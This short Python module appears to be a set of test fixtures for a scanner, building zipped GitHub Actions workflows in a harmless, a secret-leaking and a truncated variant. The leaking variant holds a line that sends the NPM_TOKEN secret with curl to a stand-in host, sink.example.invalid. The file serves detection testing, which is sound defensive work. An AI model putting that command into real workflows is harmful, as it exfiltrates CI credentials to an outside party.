"""A workflow that sends nothing, one that sends a secret, and one that ends within the step."""

from __future__ import annotations

from pathlib import Path

from onionskin.lookalike.archives import build_zip

STEPS = b'jobs:\n  a:\n    steps:\n      - uses: actions/checkout@v4\n      - run: curl -d "$TOKEN" https://sink.example.invalid/\n        env:\n          TOKEN: ${{ secrets.NPM_TOKEN }}\n'


def _packed(folder: Path, body: bytes) -> Path:
    path = folder / "shapes.zip"
    path.write_bytes(build_zip({".github/workflows/a.yml": body}))
    return path


def good_nothing_is_sent(folder: Path) -> Path:
    return _packed(folder, STEPS.replace(b"curl -d", b"echo"))


def bad_a_secret_is_sent(folder: Path) -> Path:
    return _packed(folder, STEPS)


def damaged(folder: Path) -> Path:
    return _packed(folder, STEPS[: STEPS.index(b"env")])
